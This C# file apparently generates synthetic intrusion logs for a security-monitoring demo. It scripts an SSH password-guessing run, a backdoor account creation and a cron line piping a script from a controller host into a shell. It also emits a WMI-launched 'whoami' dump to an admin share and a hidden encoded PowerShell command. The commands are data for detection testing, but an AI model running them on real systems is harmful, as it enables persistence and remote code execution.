using Kotwal.Demo.Wire;

namespace Kotwal.Demo.Stories;

/// <summary>The middle scenes: from the camera into the traffic head-end, and from there to the desk beside it.</summary>
internal static class HeadEndScenes
{
    private const int Guesses = 14;
    private const string NewAccount = "svc-sync";

    /// <summary>The camera guesses passwords at the head-end until one is right.</summary>
    public static IEnumerable<Utterance> GuessPasswords(DateTimeOffset start, Cast cast, DemoRandom random)
    {
        string[] names = ["root", "admin", cast.Account, "ubuntu", cast.Account, "operator", cast.Account];
        for (var guess = 0; guess < Guesses; guess++)
        {
            var at = start.AddMilliseconds(1_200 * guess);
            var name = names[guess % names.Length];
            var talk = Ssh(cast, random);
            var isKnown = name == "root" || name == cast.Account;
            yield return Sshd(at, cast, guess, $"Failed password for {(isKnown ? "" : "invalid user ")}{name} from {talk.Source} port {talk.SourcePort} ssh2");
            yield return Sshd(at.AddMilliseconds(30), cast, guess, $"Connection closed by {(isKnown ? "authenticating" : "invalid")} user {name} {talk.Source} port {talk.SourcePort} [preauth]");
            yield return new(at.AddMilliseconds(40), Door.ZeekHttp, ZeekLine.Conn(at.AddMilliseconds(-300), talk));
            yield return new(at.AddMilliseconds(40), Door.ZeekHttp, ZeekLine.Ssh(at.AddMilliseconds(-300), talk, isLoggedIn: false, attempts: 1));
        }

        var entered = start.AddSeconds(18);
        var session = Ssh(cast, random);
        yield return Sshd(entered, cast, Guesses, $"Accepted password for {cast.Account} from {session.Source} port {session.SourcePort} ssh2");
        yield return new(
            entered.AddMilliseconds(8),
            Door.SyslogLines,
            SyslogLine.Rsyslog(
                Priority.AuthPrivateInfo,
                entered.AddMilliseconds(8),
                cast.HeadEnd.Name,
                $"sshd[{31_000 + Guesses}]",
                $"pam_unix(sshd:session): session opened for user {cast.Account}(uid=1004) by (uid=0)"));
        yield return new(entered.AddMilliseconds(10), Door.ZeekHttp, ZeekLine.Ssh(entered, session, isLoggedIn: true, attempts: 1));
    }

    /// <summary>An account of the intruder's own, and a cron job that fetches what comes next.</summary>
    public static IEnumerable<Utterance> SettleIn(DateTimeOffset start, Cast cast, DemoRandom random)
    {
        var user = random.Between(1_005, 1_040);
        yield return Server(start, Priority.AuthPrivateNotice, cast, "sudo", $"{cast.Account,10} : TTY=pts/1 ; PWD=/home/{cast.Account} ; USER=root ; COMMAND=/usr/sbin/useradd -m -s /bin/bash {NewAccount}");
        yield return Server(start.AddMilliseconds(90), Priority.AuthPrivateInfo, cast, "useradd[31099]", $"new user: name={NewAccount}, UID={user}, GID={user}, home=/home/{NewAccount}, shell=/bin/bash, from=/dev/pts/1");
        yield return Server(start.AddSeconds(4), Priority.CronInfo, cast, "CRON[31122]", $"(root) CMD (curl -fsS http://{cast.Controller}/u.sh | sh)");
    }

    /// <summary>The signal engineer's desk runs commands that came over the network.</summary>
    public static IEnumerable<Utterance> ReachTheDesk(DateTimeOffset start, Cast cast, DemoRandom random)
    {
        var computer = cast.Desk.Name.ToUpperInvariant() + ".kirangarh.example";
        const string Parent = @"C:\Windows\System32\wbem\WmiPrvSE.exe";
        const string User = @"KIRANGARH\signal-engineer";
        yield return new(start, Door.WindowsHttp, WindowsEvents.Started(
            start, computer, random, User, (@"C:\Windows\System32\cmd.exe", @"/Q /c whoami /all 1> \\127.0.0.1\ADMIN$\__1700000.1 2>&1"), Parent));
        var next = start.AddSeconds(2);
        yield return new(next, Door.WindowsHttp, WindowsEvents.Started(
            next,
            computer,
            random,
            User,
            (@"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "-NoP -W Hidden -Enc RwBlAHQALQBDAGgAaQBsAGQASQB0AGUAbQAgAEMAOgBcAFAAbABhAG4AcwA="),
            Parent));
        var last = start.AddSeconds(3);
        yield return new(last, Door.WindowsHttp, WindowsEvents.Connected(
            last,
            computer,
            random,
            @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            cast.Desk.Address,
            cast.Signals[0].Address,
            502));
    }

    private static Conversation Ssh(Cast cast, DemoRandom random) => new(random, cast.Victim.Address, cast.HeadEnd.Address, 22)
    {
        Service = "ssh",
        Sent = 1_900,
        Received = 2_300,
        Duration = TimeSpan.FromMilliseconds(340),
    };

    private static Utterance Sshd(DateTimeOffset at, Cast cast, int guess, string text) =>
        Server(at, Priority.AuthInfo, cast, $"sshd[{31_000 + guess}]", text);

    private static Utterance Server(DateTimeOffset at, Priority priority, Cast cast, string tag, string text) =>
        new(at, Door.SyslogLines, SyslogLine.Rsyslog(priority, at, cast.HeadEnd.Name, tag, text));
}
